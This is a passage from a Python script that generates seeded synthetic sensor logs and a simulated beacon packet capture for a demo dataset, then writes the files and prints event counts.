    """The sensors' records of the demo day, deterministic for their own seed (times drawn from a Samples
    of the same seed, so the office hours match the other logs' pattern)."""
    network, clock = Network(), Samples()
    clock.rng = network.rng
    for activity in NETWORK_ACTIVITY:
        activity(network, clock)
    return network


def main() -> None:
    SAMPLES.mkdir(exist_ok=True)
    counts = build().write(SAMPLES)
    counts |= build_network().write(NETWORK)
    beacon = NETWORK / ZEEK_SENSORS["binhlac"] / "beacon.pcap"
    capture = beacon_capture()
    capture.write_pcap(beacon)
    counts[str(beacon.relative_to(SAMPLES))] = len(capture.frames)
    for name, count in counts.items():
        print(f"{name}: {count} events, {(SAMPLES / name).stat().st_size} bytes")
    print(f"total: {sum(counts.values())} events")


if __name__ == "__main__":
    main()
